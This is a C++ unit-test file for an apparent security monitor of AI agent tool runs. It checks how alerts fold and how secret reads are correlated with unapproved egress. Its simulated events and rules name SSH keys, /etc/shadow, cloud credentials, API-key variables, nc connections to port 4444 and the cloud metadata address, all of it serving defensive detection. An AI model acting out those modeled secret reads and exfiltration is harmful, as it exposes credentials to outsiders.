  EXPECT_EQ(to_ns(summary[0].time()), kT0 + 4 * kSecond);
  EXPECT_EQ(s.severity(), "critical");
  EXPECT_EQ(s.role(), "tool");
  EXPECT_EQ(s.evidence().path(), "/root/.ssh/id_rsa");
  EXPECT_EQ(summary[0].process().pid(), 300u);
  // Said once.
  EXPECT_TRUE(tick(kT0 + 120 * kSecond).empty());
  // The next hit starts a new window with a fresh alert.
  Events again = with_rule(eval(open_file(p, "/root/.ssh/id_rsa", kT0 + 121 * kSecond)), "ssh-keys");
  ASSERT_EQ(again.size(), 1u);
  EXPECT_FALSE(again[0].alert().folded());
  EXPECT_EQ(again[0].alert().count(), 1u);
}

TEST_F(EngineTest, NextHitAfterTheWindowEmitsTheSummaryFirst) {
  const v1::Process p = tool_child();
  eval(open_file(p, "/root/.ssh/config", kT0));
  eval(open_file(p, "/root/.ssh/config", kT0 + 10 * kSecond));
  eval(open_file(p, "/root/.ssh/config", kT0 + 20 * kSecond));
  Events out = with_rule(eval(open_file(p, "/root/.ssh/config", kT0 + 61 * kSecond)), "ssh-keys");
  ASSERT_EQ(out.size(), 2u);
  EXPECT_TRUE(out[0].alert().folded());
  EXPECT_EQ(out[0].alert().count(), 2u);
  EXPECT_EQ(to_ns(out[0].alert().first_seen()), kT0);
  EXPECT_EQ(to_ns(out[0].alert().last_seen()), kT0 + 20 * kSecond);
  EXPECT_FALSE(out[1].alert().folded());
  EXPECT_EQ(out[1].alert().count(), 1u);
  EXPECT_EQ(to_ns(out[1].time()), kT0 + 61 * kSecond);
}

TEST_F(EngineTest, NoSummaryWithoutRepeats) {
  eval(open_file(tool_child(), "/root/.ssh/config", kT0));
  EXPECT_TRUE(tick(kT0 + 60 * kSecond).empty());
  EXPECT_EQ(with_rule(eval(open_file(tool_child(), "/root/.ssh/config", kT0 + 61 * kSecond)), "ssh-keys").size(), 1u);
}

// A tool run's shells and programs are one subject: what one of them did again, another of the
// same run doing it folds in too. Another run, or another rule, alerts on its own.
TEST_F(EngineTest, FoldingIsPerToolRunAndPerRule) {
  EXPECT_EQ(with_rule(eval(open_file(tool_child(300), "/root/.ssh/config", kT0)), "ssh-keys").size(), 1u);
  EXPECT_TRUE(with_rule(eval(open_file(tool_child(301), "/root/.ssh/config", kT0 + kSecond)), "ssh-keys").empty());
  EXPECT_EQ(with_rule(eval(open_file(tool_child(300), "/etc/shadow", kT0 + 2 * kSecond)), "shadow").size(), 1u);
  const v1::Process other = fresh();
  EXPECT_EQ(with_rule(eval(open_file(other, "/root/.ssh/config", kT0 + 3 * kSecond)), "ssh-keys").size(), 1u);
  // Folded: 301's ssh-keys and tool-out-of-scope, and the second tool-out-of-scope of the run
  // (the shadow read).
  EXPECT_EQ(engine_->stats().folded, 3u);
  // The gateway (not a final role) folds per process.
  EXPECT_EQ(with_rule(eval(open_file(gateway(), "/root/.ssh/config", kT0)), "ssh-keys").size(), 1u);
}

// A summary keeps what each repeat showed that the first alert did not: a decoy repeated first
// cannot hide the destination or file that followed.
TEST_F(EngineTest, FoldedSummaryKeepsEveryDistinctEvidence) {
  const v1::Process curl = tool_child(301, "curl");
  eval(connect(curl, "203.0.113.7", 443, "", kT0));
  for (int i = 1; i <= 3; ++i) eval(connect(curl, "203.0.113.7", 443, "", kT0 + i * kSecond));  // the decoy
  eval(connect(tool_child(302, "nc"), "198.51.100.9", 4444, "", kT0 + 5 * kSecond));        // the real one
  for (int i = 0; i < 20; ++i) eval(connect(curl, "192.0.2." + std::to_string(i + 1), 443, "", kT0 + 6 * kSecond));
  // repeats of destinations already counted as dropped: counted in `count`, not again as distinct
  for (int i = 0; i < 3; ++i) eval(connect(curl, "192.0.2.18", 443, "", kT0 + 7 * kSecond));
  Events summary = with_rule(tick(kT0 + 60 * kSecond), "egress-unapproved");
  ASSERT_EQ(summary.size(), 1u);
  const v1::Alert& s = summary[0].alert();
  EXPECT_EQ(s.count(), 27u);
  ASSERT_EQ(s.other_evidence_size(), 16);
  EXPECT_EQ(s.other_evidence(0).address(), "198.51.100.9");
  EXPECT_EQ(s.other_evidence(0).port(), 4444u);
  EXPECT_EQ(s.other_evidence(1).address(), "192.0.2.1");
  EXPECT_EQ(s.other_evidence_dropped(), 5u);
}

// ---- correlation -------------------------------------------------------------------------------

// A tool run reads a key (cat, the shell's child), then another program of the same run (curl,
// also the shell's child) connects where no rule allows.
TEST_F(EngineTest, SecretReadThenUnapprovedEgressIsSecretExfiltration) {
  eval(open_file(tool_child(300, "cat"), "/root/.ssh/config", kT0));
  const v1::Event conn = connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + 10 * kSecond);
  Events out = eval(conn);
  EXPECT_EQ(ids(out), (Strings{"egress-unapproved", "secret-exfiltration"}));
  const v1::Event a = the_alert(out, "secret-exfiltration");
  const v1::Alert& al = a.alert();
  EXPECT_EQ(al.severity(), "critical");
  EXPECT_EQ(al.role(), "tool");
  EXPECT_EQ(al.tool_pid(), kShellPid);
  EXPECT_EQ(a.process().pid(), 301u);
  EXPECT_EQ(to_ns(a.time()), kT0 + 10 * kSecond);
  EXPECT_EQ(Strings(al.related_rule_ids().begin(), al.related_rule_ids().end()),
            (Strings{"ssh-keys", "egress-unapproved"}));
  EXPECT_EQ(al.related_evidence().path(), "/root/.ssh/config");
  EXPECT_EQ(al.evidence().address(), "203.0.113.7");
  EXPECT_EQ(al.evidence().port(), 443u);
}

// The brief's case: the key read is /root/.ssh/id_rsa.
// Disabled: agent bug (or at least a surprising choice). /root/.ssh/id_rsa matches two secret
// rules of the shipped rules, ssh-keys (~/.ssh/**) and private-keys (**/id_rsa). Engine::evaluate
// (FILE case, `secrets_[tool_pid(p)] = SecretRead{...}`)
// stores one SecretRead per tool run and overwrites it for every matching rule, so the rule kept
// is the last one in rule order: the secret-exfiltration alert's related_rule_ids is
// ["private-keys", "egress-unapproved"]. Expected it to name ssh-keys, the first (and more
// specific) rule, or all secret rules the read matched.
TEST_F(EngineTest, IdRsaReadThenEgressNamesSshKeys) {
  eval(open_file(tool_child(300, "cat"), "/root/.ssh/id_rsa", kT0));
  Events out = eval(connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + 10 * kSecond));
  const v1::Event a = the_alert(out, "secret-exfiltration");
  const Strings related(a.alert().related_rule_ids().begin(), a.alert().related_rule_ids().end());
  const bool names_ssh_keys = std::find(related.begin(), related.end(), "ssh-keys") != related.end();
  const bool names_egress = std::find(related.begin(), related.end(), "egress-unapproved") != related.end();
  EXPECT_TRUE(names_ssh_keys) << ::testing::PrintToString(related);
  EXPECT_TRUE(names_egress) << ::testing::PrintToString(related);
  EXPECT_EQ(a.alert().related_evidence().path(), "/root/.ssh/id_rsa");
}

// Whatever rule it names, the id_rsa read does correlate, with the key file as related evidence.
TEST_F(EngineTest, IdRsaReadThenEgressCorrelates) {
  eval(open_file(tool_child(300, "cat"), "/root/.ssh/id_rsa", kT0));
  Events out = eval(connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + 10 * kSecond));
  const v1::Event a = the_alert(out, "secret-exfiltration");
  EXPECT_EQ(a.alert().severity(), "critical");
  // every secret rule the read matched, then the egress rule
  ASSERT_EQ(a.alert().related_rule_ids_size(), 3);
  EXPECT_EQ(a.alert().related_rule_ids(2), "egress-unapproved");
  EXPECT_EQ(a.alert().related_evidence().path(), "/root/.ssh/id_rsa");
}

TEST_F(EngineTest, SameProcessAndDeeperDescendantsCorrelate) {
  // The shell itself reads, a grandchild of the shell connects.
  eval(open_file(tool_shell(), "/root/.aws/credentials", kT0));
  const v1::Ancestor node = ancestor(301, "node", "/usr/bin/node", "tool");
  const v1::Process deep = process(400, "python3", "/usr/bin/python3", {"python3", "x.py"},
                                   {node, kShellAncestor, kGatewayAncestor, kSystemd}, "tool");
  Events out = eval(connect(deep, "203.0.113.7", 443, "", kT0 + 5 * kSecond));
  const v1::Event a = the_alert(out, "secret-exfiltration");
  EXPECT_EQ(Strings(a.alert().related_rule_ids().begin(), a.alert().related_rule_ids().end()),
            (Strings{"cloud-credentials", "egress-unapproved"}));
  EXPECT_EQ(a.alert().tool_pid(), kShellPid);
}

TEST_F(EngineTest, SecretReadThenDeniedEgressCorrelates) {
  eval(open_file(tool_child(), "/root/.ssh/config", kT0));
  Events out = eval(connect(tool_child(301, "curl"), "169.254.169.254", 80, "", kT0 + kSecond));
  EXPECT_EQ(ids(out), (Strings{"cloud-metadata", "secret-exfiltration"}));
  const v1::Event a = the_alert(out, "secret-exfiltration");
  EXPECT_EQ(Strings(a.alert().related_rule_ids().begin(), a.alert().related_rule_ids().end()),
            (Strings{"ssh-keys", "cloud-metadata"}));
}

// Disabled: agent bug. Repeated secret-exfiltration alerts of a process fold like any other, but
// Engine::correlate adds related_rule_ids and related_evidence only to the alerts raise()
// returns there; the summary Engine::tick emits (`emit(f.last_event, ...)`) is built from the
// FoldState's hit and carries neither. Here: a key read, two unapproved connects by the same process within
// the fold window, then tick() after the window: the secret-exfiltration summary (count 1,
// folded) has related_rule_ids [] and an empty related_evidence; expected
// ["ssh-keys", "egress-unapproved"] and the key's path, as on the first alert.
TEST_F(EngineTest, SecretExfiltrationSummaryNamesTheCorrelatedRules) {
  eval(open_file(tool_child(300, "cat"), "/root/.ssh/config", kT0));
  const v1::Process curl = tool_child(301, "curl");
  eval(connect(curl, "203.0.113.7", 443, "", kT0 + kSecond));
  EXPECT_TRUE(with_rule(eval(connect(curl, "203.0.113.7", 443, "", kT0 + 2 * kSecond)), "secret-exfiltration").empty());
  Events summary = with_rule(tick(kT0 + 61 * kSecond), "secret-exfiltration");
  ASSERT_EQ(summary.size(), 1u);
  const v1::Alert& s = summary[0].alert();
  EXPECT_TRUE(s.folded());
  EXPECT_EQ(s.count(), 1u);
  EXPECT_EQ(Strings(s.related_rule_ids().begin(), s.related_rule_ids().end()),
            (Strings{"ssh-keys", "egress-unapproved"}));
  EXPECT_EQ(s.related_evidence().path(), "/root/.ssh/config");
}

TEST_F(EngineTest, RepeatedExfiltrationByOneProcessFolds) {
  eval(open_file(tool_child(300, "cat"), "/root/.ssh/config", kT0));
  const v1::Process curl = tool_child(301, "curl");
  EXPECT_EQ(ids(eval(connect(curl, "203.0.113.7", 443, "", kT0 + kSecond))),
            (Strings{"egress-unapproved", "secret-exfiltration"}));
  EXPECT_TRUE(eval(connect(curl, "203.0.113.7", 443, "", kT0 + 2 * kSecond)).empty());
  // Another process of the same run folds into the run's alerts too; another run does not.
  EXPECT_TRUE(eval(connect(tool_child(302, "nc"), "203.0.113.7", 4444, "", kT0 + 3 * kSecond)).empty());
  EXPECT_EQ(ids(eval(connect(fresh("nc"), "203.0.113.7", 4444, "", kT0 + 4 * kSecond))), Strings{"egress-unapproved"});
}

TEST_F(EngineTest, NoCorrelationAfterTheWindow) {
  eval(open_file(tool_child(), "/root/.ssh/id_rsa", kT0));
  Events out = eval(connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + 121 * kSecond));
  EXPECT_EQ(ids(out), Strings{"egress-unapproved"});
}

TEST_F(EngineTest, NoCorrelationAfterTheWindowWithTicks) {
  eval(open_file(tool_child(), "/root/.ssh/id_rsa", kT0));
  tick(kT0 + 60 * kSecond);
  tick(kT0 + 121 * kSecond);
  Events out = eval(connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + 122 * kSecond));
  EXPECT_EQ(ids(out), Strings{"egress-unapproved"});
}

TEST_F(EngineTest, NoCorrelationWithoutEgressOrAcrossToolRuns) {
  eval(open_file(tool_child(), "/root/.ssh/config", kT0));
  // Allowed egress from the same run.
  EXPECT_TRUE(eval(connect(tool_child(301, "curl"), "162.159.140.245", 443, "api.openai.com", kT0 + kSecond)).empty());
  // Unapproved egress from another tool run (another child of the gateway).
  const v1::Process other = process(500, "curl", "/usr/bin/curl", {"curl"}, {kGatewayAncestor, kSystemd}, "tool");
  EXPECT_EQ(ids(eval(connect(other, "203.0.113.7", 443, "", kT0 + 2 * kSecond))), Strings{"egress-unapproved"});
  // Nor from the gateway itself.
  EXPECT_EQ(ids(eval(connect(gateway(), "203.0.113.7", 443, "", kT0 + 3 * kSecond))), Strings{"egress-unapproved"});
}

TEST_F(EngineTest, NoCorrelationAfterAFailedRead) {
  eval(open_file(tool_child(), "/root/.ssh/id_rsa", kT0, -13));
  Events out = eval(connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + kSecond));
  EXPECT_EQ(ids(out), Strings{"egress-unapproved"});
}

// Disabled: agent bug. Engine::evaluate (FILE case, `if (r.secret && (!f.has_result() ||
// f.result() >= 0)) secrets_[...] = ...`) arms correlation on every successful hit of a secret file
// rule, whatever the operation: deleting ~/.ssh/id_rsa (UNLINK) or opening
// ~/.ssh/authorized_keys write-only, then connecting to an unapproved address, raises
// secret-exfiltration ("a secret was read, then sent ...") although nothing was read.
// Expected: only reads (OPEN with access read or read_write) arm it.
TEST_F(EngineTest, OnlyReadsArmCorrelation) {
  v1::Event unlink = event(v1::Event::FILE, kT0, tool_child());
  unlink.mutable_file()->set_op(v1::FileOp::UNLINK);
  unlink.mutable_file()->set_path("/root/.ssh/id_rsa");
  unlink.mutable_file()->set_result(0);
  eval(unlink);
  EXPECT_EQ(ids(eval(connect(tool_child(301, "curl"), "203.0.113.7", 443, "", kT0 + kSecond))),
            Strings{"egress-unapproved"});

  // Another tool run (its shell is 610) writes a key file, then connects.
  const v1::Ancestor other_shell = ancestor(610, "sh", "/usr/bin/dash", "tool");
  eval(open_file(process(611, "tee", "/usr/bin/tee", {"tee"}, {other_shell, kGatewayAncestor, kSystemd}, "tool"),
                 "/root/.ssh/authorized_keys", kT0, 3, "write"));
  EXPECT_EQ(ids(eval(connect(process(612, "curl", "/usr/bin/curl", {"curl"}, {other_shell, kGatewayAncestor, kSystemd}, "tool"),
                             "203.0.113.8", 443, "", kT0 + kSecond))),
            Strings{"egress-unapproved"});
}

// ---- roles -------------------------------------------------------------------------------------

// The engine takes a process's role from its event (the kernel judged it; process/roles.h and
// tests/unit/roles_test.cpp say how): a name, an exe or a lineage never makes a role.
TEST_F(EngineTest, RolesAreTheEventsOwn) {
  EXPECT_EQ(engine_->role_of(gateway()), "gateway");
  EXPECT_EQ(engine_->role_of(tool_child()), "tool");
  EXPECT_EQ(engine_->role_of(process(50, "openclaw-gatewa", "/usr/bin/node", {"openclaw"}, {kShellAncestor}, "tool")),
            "tool");
  EXPECT_EQ(engine_->role_of(v1::Process()), "");
  EXPECT_EQ(engine_->mode(), Mode::kMonitor);
}

constexpr const char* kRoleRules = R"(version: 1
roles:
  gateway: { root: true }
  helper: { started_by: [gateway], exec: [{ exe: node, argv: ["*", "*/worker.js"] }] }
  tool: { started_by: [gateway, helper], final: true }
egress:
  default: deny
)";

Engine engine_for(const std::string& text) {
  LoadResult r = parse_rules(text, "engine.yaml");
  for (const auto& e : r.errors) ADD_FAILURE() << e.to_string();
  return Engine(r.rules);
}

// The tool run an alert names is the first process below a role that is not final: the
// broker's child, not the broker or the gateway.
TEST(EngineRoles, TheToolRunIsTheFirstProcessBelowANonFinalRole) {
  Engine e = engine_for(kRoleRules);
  const v1::Ancestor gw = ancestor(10, "openclaw-gatewa", "/usr/bin/node", "gateway");
  const v1::Ancestor broker = ancestor(11, "node-MainThread", "/usr/bin/node", "helper");
  const v1::Ancestor shell = ancestor(12, "bash", "/usr/bin/bash", "tool");
  Events out;
  e.evaluate(connect(process(13, "curl", "/usr/bin/curl", {"curl"}, {shell, broker, gw, kSystemd}, "tool"), "203.0.113.7",
                     443),
             out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().role(), "tool");
  EXPECT_EQ(out[0].alert().tool_pid(), 12u);
  out.clear();
  e.evaluate(connect(process(11, "node-MainThread", "/usr/bin/node", {"node"}, {gw, kSystemd}, "helper"), "203.0.113.8",
                     443),
             out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().role(), "helper");
  EXPECT_EQ(out[0].alert().tool_pid(), 0u);
}

// ---- small rule sets ---------------------------------------------------------------------------

TEST(EngineRules, ModeAndWindowsComeFromTheRules) {
  Engine e = engine_for(R"(version: 1
mode: enforce
roles:
  gateway: { root: true }
  tool: { started_by: [gateway], final: true }
egress:
  default: deny
  unapproved: { id: out, severity: warning, action: block }
files:
  deny:
    - id: keys
      path: "~/.ssh/**"
alerts:
  fold_window: 10s
  correlation_window: 30s
)");
  EXPECT_EQ(e.mode(), Mode::kEnforce);
  const v1::Process tool = process(2, "sh", "/bin/sh", {"sh"}, {ancestor(1, "gw", "/bin/gw", "gateway")}, "tool");
  Events out;
  e.evaluate(open_file(tool, "/root/.ssh/k", kT0), out);
  e.evaluate(open_file(tool, "/root/.ssh/k", kT0 + 5 * kSecond), out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().mode(), "enforce");
  EXPECT_EQ(out[0].alert().severity(), "error");  // files.deny default
  EXPECT_EQ(out[0].alert().action(), "alert");
  out.clear();
  e.tick(kT0 + 10 * kSecond, out);  // the 10s fold window is over
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().count(), 1u);
  EXPECT_TRUE(out[0].alert().folded());
  out.clear();
  // 31s after the last read: past the 30s correlation window.
  e.evaluate(connect(tool, "203.0.113.7", 443, "", kT0 + 36 * kSecond), out);
  EXPECT_EQ(ids(out), Strings{"out"});
  EXPECT_EQ(out[0].alert().severity(), "warning");
  out.clear();
  e.evaluate(open_file(tool, "/root/.ssh/k", kT0 + 40 * kSecond), out);
  e.evaluate(connect(tool, "203.0.113.8", 443, "", kT0 + 60 * kSecond), out);
  EXPECT_EQ(ids(out), (Strings{"keys", "out", "secret-exfiltration"}));
}

TEST(EngineRules, NonSecretFileRulesDoNotArmCorrelation) {
  Engine e = engine_for(R"(version: 1
egress:
  default: deny
files:
  deny:
    - id: hosts
      path: /etc/hosts
      secret: false
)");
  Events out;
  const v1::Process p = process(2, "sh", "/bin/sh", {"sh"}, {});
  e.evaluate(open_file(p, "/etc/hosts", kT0), out);
  e.evaluate(connect(p, "203.0.113.7", 443, "", kT0 + kSecond), out);
  EXPECT_EQ(ids(out), (Strings{"egress-unapproved", "hosts"}));
}

TEST(EngineRules, DefaultAllowRaisesOnlyDenyRules) {
  Engine e = engine_for(R"(version: 1
egress:
  deny:
    - id: bad-net
      cidr: 198.51.100.0/24
      ports: ["8000-8080"]
    - id: bad-host
      host: "*.evil.example"
)");
  Events out;
  const v1::Process p = process(2, "sh", "/bin/sh", {"sh"}, {});
  e.evaluate(connect(p, "203.0.113.7", 443), out);
  e.evaluate(connect(p, "198.51.100.9", 443), out);  // outside the port range
  EXPECT_TRUE(out.empty());
  e.evaluate(connect(p, "198.51.100.9", 8080), out);
  e.evaluate(connect(p, "203.0.113.7", 443, "a.b.evil.example"), out);
  EXPECT_EQ(ids(out), (Strings{"bad-host", "bad-net"}));
}

}  // namespace
}  // namespace clawfence::policy

namespace clawfence::policy {
namespace {

// Guards decide in the kernel; the engine turns their verdicts into alerts naming the rule, with
// the outcome the kernel reached (a budget crossed, a connect refused, an open killed).
v1::Event guarded(v1::Event::Kind kind, const std::string& rule, const std::string& verdict) {
  v1::Event ev;
  v1::set_timestamp(1'700'000'000'000'000'000ll, ev.mutable_time());
  ev.set_kind(kind);
  ev.mutable_process()->set_pid(20);
  ev.mutable_process()->set_comm("curl");
  ev.mutable_process()->set_role("tool");
  auto* gw = ev.mutable_process()->add_lineage();
  gw->set_pid(10);
  gw->set_comm("openclaw-gatewa");
  gw->set_role("gateway");
  auto* e = ev.mutable_enforcement();
  e->set_rule_id(rule);
  e->set_verdict(verdict);
  e->set_mechanism("test hook");
  return ev;
}

TEST(EngineEnforcement, VerdictsBecomeOutcomes) {
  auto res = parse_rules(
      "version: 1\nmode: enforce\n"
      "roles:\n  gateway: { root: true }\n  tool: { started_by: [gateway], final: true }\n"
      "egress:\n  default: deny\n  allow:\n    - { id: ok, cidr: 10.0.0.0/8 }\n"
      "files:\n  deny:\n    - { id: keys, path: [\"/secret/**\"], action: kill }\n"
      "volume:\n  - { id: budget, roles: [tool], window: 60s, max_bytes: 1000, action: block }\n"
      "evasion:\n  - { id: io-uring, what: io_uring, action: kill }\n",
      "e.yaml");
  ASSERT_TRUE(res.ok()) << res.errors[0].to_string();
  Engine engine(res.rules);
  std::vector<v1::Event> out;

  // a connect the kernel refused: the unapproved alert says blocked, and how
  v1::Event net = guarded(v1::Event::NET, "egress-unapproved", "blocked");
  net.mutable_net()->set_address("192.0.2.1");
  net.mutable_net()->set_port(443);
  engine.evaluate(net, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "egress-unapproved");
  EXPECT_EQ(out[0].alert().outcome(), "blocked");
  EXPECT_EQ(out[0].alert().mechanism(), "test hook");
  EXPECT_EQ(out[0].alert().mode(), "enforce");
  out.clear();

  // an open killed in the kernel
  v1::Event file = guarded(v1::Event::FILE, "keys", "killed");
  file.mutable_file()->set_op(v1::FileOp::OPEN);
  file.mutable_file()->set_path("/secret/id_rsa");
  engine.evaluate(file, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "keys");
  EXPECT_EQ(out[0].alert().outcome(), "killed");
  out.clear();

  // a budget crossed: the guard event is the volume rule's alert
  v1::Event budget = guarded(v1::Event::GUARD, "budget", "blocked");
  budget.mutable_guard()->set_what("egress_budget");
  budget.mutable_guard()->set_bytes(1500);
  budget.mutable_guard()->set_address("127.0.0.8");
  budget.mutable_process()->set_pid(21);
  engine.evaluate(budget, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "budget");
  EXPECT_EQ(out[0].alert().outcome(), "blocked");
  EXPECT_EQ(out[0].alert().evidence().bytes(), 1500u);
  EXPECT_EQ(out[0].alert().role(), "tool");
  out.clear();

  // dry run: "would" outcomes, and the alert says the mode
  engine.set_dry_run(true);
  v1::Event uring = guarded(v1::Event::GUARD, "io-uring", "would-kill");
  uring.mutable_guard()->set_what("io_uring_setup");
  uring.mutable_process()->set_pid(22);
  engine.evaluate(uring, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().outcome(), "would-kill");
  EXPECT_EQ(out[0].alert().mode(), "dry-run");
  out.clear();

  // a "matched" verdict on a plain event adds nothing to what the rules say
  v1::Event seen = guarded(v1::Event::NET, "ok", "matched");
  seen.mutable_net()->set_address("10.1.2.3");
  seen.mutable_process()->set_pid(23);
  engine.evaluate(seen, out);
  EXPECT_TRUE(out.empty());
}

// Environment reads: only secrets are kept and judged; a tool reading one alerts, the gateway
// does not; a dump, secrets handed at exec and ptrace have rules of their own; a secret read
// by a tool, then unapproved egress from the same tool run, is one critical alert.
v1::Event env_event(uint32_t pid, const std::string& comm, bool under_gateway, const std::string& op,
                    const std::string& name = "", bool set = true) {
  v1::Event ev;
  v1::set_timestamp(1'700'000'000'000'000'000ll + pid, ev.mutable_time());
  ev.set_kind(v1::Event::ENV);
  ev.mutable_process()->set_pid(pid);
  ev.mutable_process()->set_comm(comm);
  if (under_gateway) {
    ev.mutable_process()->set_role("tool");
    auto* gw = ev.mutable_process()->add_lineage();
    gw->set_pid(10);
    gw->set_comm("openclaw-gatewa");
    gw->set_role("gateway");
  }
  ev.mutable_env()->set_op(op);
  if (!name.empty()) {
    ev.mutable_env()->set_name(name);
    ev.mutable_env()->set_set(set);
  }
  return ev;
}

// Where the environment-read probes are wanted: the roles an env read or enumerate rule judges
// (the shipped rules: tools and OpenClaw's shells, not the gateway or its helpers); a rule with
// no roles judges every process, a handed or ptrace rule none of the reads.
TEST_F(EngineTest, EnvReadsAreJudgedForToolsAndShellsOnly) {
  Engine engine(*shipped_);
  EXPECT_TRUE(engine.judges_env_reads_of("tool"));
  EXPECT_TRUE(engine.judges_env_reads_of("shell"));
  for (const char* role : {"gateway", "helper", "housekeeping", ""}) EXPECT_FALSE(engine.judges_env_reads_of(role)) << role;
  auto judged = [](const std::string& rules) {
    auto res = parse_rules("version: 1\nenv:\n  rules:\n" + rules, "env.yaml");
    EXPECT_TRUE(res.ok()) << res.errors[0].to_string();
    return Engine(res.rules).judges_env_reads_of("anything");
  };
  EXPECT_TRUE(judged("    - { id: r, what: read }\n"));
  EXPECT_TRUE(judged("    - { id: r, what: enumerate }\n"));
  EXPECT_FALSE(judged("    - { id: r, what: handed }\n    - { id: p, what: ptrace }\n"));
}

TEST(EngineEnv, SecretReadsDumpsHandingAndPtrace) {
  auto res = parse_rules(
      "version: 1\n"
      "roles:\n  gateway: { root: true }\n  tool: { started_by: [gateway], final: true }\n"
      "egress:\n  default: deny\n"
      "env:\n  secret_names: [\"*_API_KEY\", GH_TOKEN]\n  rules:\n"
      "    - { id: read, what: read, roles: [tool] }\n"
      "    - { id: dump, what: enumerate, roles: [tool], severity: error }\n"
      "    - { id: handed, what: handed, roles: [tool], severity: info }\n"
      "    - { id: trace, what: ptrace, severity: critical }\n",
      "env.yaml");
  ASSERT_TRUE(res.ok()) << res.errors[0].to_string();
  Engine engine(res.rules);
  std::vector<v1::Event> out;

  // annotate: a secret is marked; a variable that is none is not to be written
  v1::Event path = env_event(20, "node", true, "uv_os_getenv", "PATH");
  EXPECT_FALSE(engine.annotate(path));
  v1::Event key = env_event(20, "node", true, "uv_os_getenv", "OPENAI_API_KEY");
  EXPECT_TRUE(engine.annotate(key));
  EXPECT_TRUE(key.env().secret());
  EXPECT_EQ(key.env().role(), "tool");
  // at exec only the secret names are kept
  v1::Event exec = env_event(21, "sh", true, "exec");
  for (const char* n : {"PATH", "GH_TOKEN", "HOME", "ANTHROPIC_API_KEY"}) exec.mutable_env()->add_names(n);
  EXPECT_TRUE(engine.annotate(exec));
  EXPECT_EQ(std::vector<std::string>(exec.env().names().begin(), exec.env().names().end()),
            (std::vector<std::string>{"GH_TOKEN", "ANTHROPIC_API_KEY"}));
  v1::Event plain_exec = env_event(22, "sh", true, "exec");
  plain_exec.mutable_env()->add_names("PATH");
  EXPECT_FALSE(engine.annotate(plain_exec));

  // the tool's read alerts; the gateway's own read and a read of an unset secret do not
  engine.evaluate(key, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "read");
  EXPECT_EQ(out[0].alert().evidence().env_name(), "OPENAI_API_KEY");
  EXPECT_EQ(out[0].alert().role(), "tool");
  out.clear();
  v1::Event gw = env_event(10, "openclaw-gatewa", false, "uv_os_getenv", "OPENAI_API_KEY");
  engine.annotate(gw);
  engine.evaluate(gw, out);
  v1::Event unset = env_event(23, "node", true, "getenv", "GH_TOKEN", false);
  engine.annotate(unset);
  engine.evaluate(unset, out);
  EXPECT_TRUE(out.empty());

  engine.evaluate(exec, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "handed");
  EXPECT_EQ(out[0].alert().evidence().env_names_size(), 2);
  out.clear();
  v1::Event dump = env_event(24, "node", true, "enumerate");
  engine.evaluate(dump, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "dump");
  out.clear();
  v1::Event trace = env_event(25, "gdb", true, "ptrace");
  trace.mutable_env()->set_target_pid(10);
  engine.evaluate(trace, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].alert().rule_id(), "trace");
  EXPECT_EQ(out[0].alert().evidence().target_pid(), 10u);
  out.clear();

  // the tool that read the key connects out unapproved: correlated
  v1::Event net = env_event(20, "node", true, "uv_os_getenv");
  net.set_kind(v1::Event::NET);
  net.clear_env();
  net.mutable_net()->set_address("192.0.2.7");
  net.mutable_net()->set_port(443);
  engine.evaluate(net, out);
  bool exfil = false;
  for (const auto& a : out)
    if (a.alert().rule_id() == "secret-exfiltration") {
      exfil = true;
      EXPECT_EQ(a.alert().related_evidence().env_name(), "OPENAI_API_KEY");
    }
  EXPECT_TRUE(exfil);
}

}  // namespace
}  // namespace clawfence::policy

namespace clawfence::policy {
namespace {

TEST(DynamicLoader, Names) {
  for (const char* yes : {"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1", "/lib/ld-linux.so.2",
                          "/lib/x86_64-linux-gnu/ld-2.31.so", "/etc/ld.so", "/lib/ld-musl-x86_64.so.1", "ld-musl-armhf"})
    EXPECT_TRUE(is_dynamic_loader(yes)) << yes;
  for (const char* no : {"/usr/bin/ld", "/usr/bin/ld.gold", "/usr/bin/ldd", "/usr/bin/cat", "/opt/old-ld.so",
                         "/lib/ld.so/cat", ""})
    EXPECT_FALSE(is_dynamic_loader(no)) << no;
}

TEST(DynamicLoader, ProgramAfterTheLoadersOptions) {
  EXPECT_EQ(loader_program({"ld.so", "/bin/cat", "f"}), "/bin/cat");
  EXPECT_EQ(loader_program({"ld.so", "--library-path", "/x", "--preload", "/p.so", "--argv0", "a", "--audit", "/a.so",
                            "--inhibit-cache", "--inhibit-rpath", "l", "cat"}),
            "cat");
  EXPECT_EQ(loader_program({"ld.so", "--glibc-hwcaps-mask", "m", "--glibc-hwcaps-prepend", "p", "./tool"}), "./tool");
  EXPECT_EQ(loader_program({"ld.so", "--list", "/bin/ls"}), "/bin/ls");
  EXPECT_EQ(loader_program({"ld.so", "--library-path=/x", "/bin/ls"}), "/bin/ls");  // musl's form
  EXPECT_EQ(loader_program({"ld.so", "--", "--odd-name"}), "--odd-name");
  EXPECT_EQ(loader_program({"ld.so", "--preload", "/p.so"}), "");  // the option's value is not a program
  EXPECT_EQ(loader_program({"ld.so", "--help"}), "");
  EXPECT_EQ(loader_program({"ld.so"}), "");
  EXPECT_EQ(loader_program({}), "");
}

// An exec rule may name the loader itself, by name or by glob.
